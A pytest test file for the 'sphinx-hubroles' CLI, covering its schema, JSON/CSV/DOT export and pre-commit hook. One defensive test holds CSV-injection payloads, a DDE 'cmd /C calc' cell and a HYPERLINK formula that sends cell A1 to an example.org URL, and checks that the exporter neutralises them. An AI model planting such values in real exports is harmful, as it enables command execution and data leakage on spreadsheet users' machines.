"""`sphinx-hubroles schema` and `export`, and the pre-commit hook, run as real commands."""

from __future__ import annotations

import csv
import io
import json
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from cli_helpers import GOOD, hubroles, write_tree

from sphinx_hubroles.core.schema import SHIPPED

REPO = Path(__file__).parent.parent

TEAM = """\
relations:
  oversees: {label: oversees, inverse: overseen by}
  asks: {label: surfaces requests to}
groups:
  community:
    name: Hub Community
    description: The people a hub serves.
roles:
  community-representative:
    name: Community Representative
    aliases: [Community Representatives]
    group: community
    summary: Speaks for the {term}`Hub Community`.
    count: one or two
    defined-by: an election
    requirements:
      - text: Member of the community
        items:
          - text: for a year
            items: [or two]
    responsibilities:
      - Oversee the [Hub Administrators](roles:hub-administrator)
      - "Collect feedback, with commas"
    sections:
      - title: Terms
        text: Two years.
        items: [At most two terms]
    relations:
      oversees:
        - role: hub-administrator
          note: with the *engineers*
      asks: [hub-engineer]
  hub-administrator:
    name: Hub Administrator
    group: community
    summary: Supports users.
    admonitions:
      - kind: warning
        text: Only people you trust.
    relations:
      oversees: [hub-administrator]
  hub-engineer:
    name: Hub Engineer
    summary: Operates the hub.
    url: https://example.org/engineers
  old-engineer:
    name: Old Engineer
    summary: Operated the hub.
    status: retired
    replaced-by: hub-engineer
terms:
  Hub Community: The people a hub serves.
"""


@pytest.fixture
def team(tmp_path):
    write_tree(tmp_path, {"roles.yaml": TEAM})
    return tmp_path


def test_schema_prints_the_shipped_file(tmp_path):
    run = hubroles(tmp_path, "schema")
    assert run.returncode == 0
    assert run.stdout == SHIPPED.read_text(encoding="utf-8")
    assert json.loads(run.stdout)["$schema"] == "https://json-schema.org/draft/2020-12/schema"


def test_schema_path_is_the_installed_copy(tmp_path):
    run = hubroles(tmp_path, "schema", "--path", entry="script")
    assert run.returncode == 0
    assert Path(run.stdout.strip()).read_text(encoding="utf-8") == SHIPPED.read_text("utf-8")


def test_export_json_has_every_field_and_both_directions(team):
    run = hubroles(team, "export", "--roles", "roles.yaml")
    assert (run.returncode, run.stderr) == (0, "")
    data = json.loads(run.stdout)
    assert list(data) == ["relations", "groups", "roles", "edges", "terms", "people"]
    assert data["relations"] == {
        "oversees": {"label": "oversees", "inverse": "overseen by", "hierarchy": False,
                     "color": None, "dark-color": None, "style": None},
        "asks": {"label": "surfaces requests to", "inverse": None, "hierarchy": False,
                 "color": None, "dark-color": None, "style": None},
    }
    assert data["groups"] == {"community": {
        "name": "Hub Community", "description": "The people a hub serves.",
        "roles": ["community-representative", "hub-administrator"], "role": None}}
    assert list(data["roles"]) == ["community-representative", "hub-administrator",
                                   "hub-engineer", "old-engineer"]
    assert data["roles"]["community-representative"] == {
        "id": "community-representative",
        "name": "Community Representative",
        "aliases": ["Community Representatives"],
        "group": "community",
        "status": "active",
        "replaced-by": None,
        "url": None,
        "summary": "Speaks for the {term}`Hub Community`.",
        "count": "one or two",
        "filled-by": None,
        "defined-by": "an election",
        "description": None,
        # An item without sub-items is its text, as in roles.yaml and as published first.
        "requirements": [{"text": "Member of the community",
                          "items": [{"text": "for a year", "items": ["or two"]}]}],
        "responsibilities": ["Oversee the [Hub Administrators](roles:hub-administrator)",
                             "Collect feedback, with commas"],
        "sections": [{"title": "Terms", "text": "Two years.", "items": ["At most two terms"]}],
        "see-also": [],
        "admonitions": [],
        # Ids only, as published first; the notes are in `edges`.
        "relations": {"oversees": ["hub-administrator"], "asks": ["hub-engineer"]},
        "holders": [],
        "rotation": None,
        "kind-of": None,
        "seats": None,
        "team": None,
        "owners-alias": None,
        "incoming": {},
    }
    admin = data["roles"]["hub-administrator"]
    assert admin["admonitions"] == [{"kind": "warning", "text": "Only people you trust."}]
    assert admin["incoming"] == {"oversees": ["community-representative",
                                              "hub-administrator"]}
    engineer, old = data["roles"]["hub-engineer"], data["roles"]["old-engineer"]
    assert engineer["incoming"] == {"asks": ["community-representative"]}
    assert engineer["url"] == "https://example.org/engineers"
    assert (old["status"], old["replaced-by"]) == ("retired", "hub-engineer")
    assert data["edges"] == [
        {"source": "community-representative", "relation": "oversees",
         "target": "hub-administrator", "note": "with the *engineers*"},
        {"source": "community-representative", "relation": "asks", "target": "hub-engineer",
         "note": None},
        {"source": "hub-administrator", "relation": "oversees", "target": "hub-administrator",
         "note": None},
    ]
    assert data["terms"] == {"Hub Community": "The people a hub serves."}


def test_export_csv_is_one_row_per_role(team):
    run = hubroles(team, "export", "--format", "csv", entry="script")
    assert run.returncode == 0
    rows = list(csv.reader(io.StringIO(run.stdout)))
    # The columns of the first releases come first, where they were (the others:
    # test_export_csv_has_counts_holders_defined_by_and_relations).
    assert [row[:8] for row in rows] == [
        ["role id", "role name", "group", "status", "url", "summary", "requirements",
         "responsibilities"],
        ["community-representative", "Community Representative", "community", "active", "",
         "Speaks for the {term}`Hub Community`.",
         # one line per item, each level of sub-items indented by four spaces
         "Member of the community\n    for a year\n        or two",
         "Oversee the [Hub Administrators](roles:hub-administrator)\n"
         "Collect feedback, with commas"],
        ["hub-administrator", "Hub Administrator", "community", "active", "", "Supports users.",
         "", ""],
        ["hub-engineer", "Hub Engineer", "", "active", "https://example.org/engineers",
         "Operates the hub.", "", ""],
        ["old-engineer", "Old Engineer", "", "retired", "", "Operated the hub.", "", ""],
    ]


FORMULAS = """\
roles:
  formula:
    name: =HYPERLINK("https://example.org/?"&A1, "Click")
    summary: "+1+cmd|' /C calc'!A0"
    requirements:
      - -2+3
      - =1+1 on the next line is no formula
    responsibilities:
      - "@SUM(A1:A9)"
  plain:
    name: Plain
    summary: "A - B = C, as written"
    responsibilities:
      - "'quoted' already"
"""


def test_export_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
    """CSV injection: a cell that starts with =, +, - or @ gets a leading ', so that a
    spreadsheet reads it as text; other cells are as written (a spreadsheet reads a cell's
    start only)."""
    write_tree(tmp_path, {"roles.yaml": FORMULAS})
    run = hubroles(tmp_path, "export", "--format", "csv")
    assert run.returncode == 0
    name = "'=HYPERLINK(\"https://example.org/?\"&A1, \"Click\")"
    assert [row[:8] for row in list(csv.reader(io.StringIO(run.stdout)))[1:]] == [
        ["formula", name, "", "active", "", "'+1+cmd|' /C calc'!A0",
         "'-2+3\n=1+1 on the next line is no formula", "'@SUM(A1:A9)"],
        ["plain", "Plain", "", "active", "", "A - B = C, as written", "", "'quoted' already"],
    ]
    # A carriage return inside a cell is quoted, so that it cannot end the row early and start
    # one with a formula (written to a file: standard output in text mode reads '\r' as '\n').
    write_tree(tmp_path, {"roles.yaml": FORMULAS + '      - "Two\\rrows? =1+1"\n'})
    assert hubroles(tmp_path, "export", "--format", "csv", "-o", "out.csv").returncode == 0
    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[-1][7] == "'quoted' already\nTwo\rrows? =1+1"
    # JSON is data for programs, not spreadsheets: the text as written.
    data = json.loads(hubroles(tmp_path, "export").stdout)
    assert data["roles"]["formula"]["name"] == name[1:]
    assert data["roles"]["formula"]["requirements"][0] == "-2+3"


def test_export_dot_is_the_full_diagram_without_page_links(team):
    run = hubroles(team, "export", "--format", "dot")
    assert run.returncode == 0
    dot = run.stdout
    assert dot.startswith("digraph roles {")
    for node in ('"community-representative" [label="Community Representative"',
                 '"hub-administrator" [label="Hub Administrator"',
                 '"hub-engineer" [label="Hub Engineer"', 'label="Hub Community"',
                 '"community-representative" -> "hub-administrator"',
                 '"community-representative" -> "hub-engineer"',
                 '"hub-administrator" -> "hub-administrator"', "label=Legend"):
        assert node in dot
    assert "hubroles-href:" not in dot and "URL=" not in dot
    # The role documented elsewhere is dashed, and the legend says what that means; the retired
    # role is left out, as a roles-diagram without :status: leaves it out.
    assert ('"hub-engineer" [label="Hub Engineer" class="hubroles-role hubroles-id-hub-engineer '
            'hubroles-external" style="rounded,filled,dashed"]') in dot
    assert 'legend_external [label="documented elsewhere"' in dot
    assert "old-engineer" not in dot


@pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz is not installed")
def test_export_dot_is_valid_for_graphviz(team):
    dot = hubroles(team, "export", "--format", "dot").stdout
    done = subprocess.run(["dot", "-Tsvg"], input=dot, capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (0, "")
    assert "Community Representative" in done.stdout


def test_export_to_a_file(team):
    run = hubroles(team, "export", "--format", "csv", "--output", "out.csv")
    assert (run.returncode, run.stdout) == (0, "")
    assert (team / "out.csv").read_text(encoding="utf-8").startswith("role id,")


def test_export_of_a_bad_roles_yaml_prints_its_problems_and_exits_1(tmp_path):
    write_tree(tmp_path, {"roles.yaml": "roles:\n  hub:\n    name: Hub\n"})
    run = hubroles(tmp_path, "export")
    assert (run.returncode, run.stdout) == (1, "")
    assert run.stderr == "roles.yaml:2: role 'hub' has no 'summary', which is required\n"


def test_the_same_output_both_ways(team):
    assert hubroles(team, "export").stdout == hubroles(team, "export", entry="script").stdout


# -- pre-commit --------------------------------------------------------------------------------

def hook() -> dict:
    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    assert [h["id"] for h in hooks] == ["sphinx-hubroles-check"]
    return hooks[0]


def test_the_hook_checks_the_whole_tree_with_the_installed_command():
    definition = hook()
    assert definition["pass_filenames"] is False
    assert definition["language"] == "python"
    assert shlex.split(definition["entry"]) == ["sphinx-hubroles", "check"]
    pyproject = (REPO / "pyproject.toml").read_text(encoding="utf-8")
    assert 'sphinx-hubroles = "sphinx_hubroles.cli:main"' in pyproject


def test_the_hook_as_a_project_would_configure_it(tmp_path):
    """What pre-commit runs: the entry, then the hook's args, in the repository's root."""
    write_tree(tmp_path, {f"docs/{name}": text for name, text in GOOD.items()})
    args = shlex.split(hook()["entry"])[1:] + ["--roles", "docs/roles.yaml", "docs"]
    assert hubroles(tmp_path, *args, entry="script").returncode == 0
    write_tree(tmp_path, {"docs/new.md": "[x](roles:hub-enginer)\n"})
    run = hubroles(tmp_path, *args, entry="script")
    assert run.returncode == 1
    assert run.lines == ["docs/new.md:1:5: unknown role 'hub-enginer' in reference "
                         "'roles:hub-enginer'; did you mean 'hub-engineer'?"]


def test_the_hook_runs_for_pages_and_yaml_only():
    import re

    files = re.compile(hook()["files"])
    assert all(files.search(name) for name in ("docs/a.md", "b.rst", "roles.yaml", "x.yml"))
    assert not any(files.search(name) for name in ("setup.py", "docs/conf.py", "a.txt"))

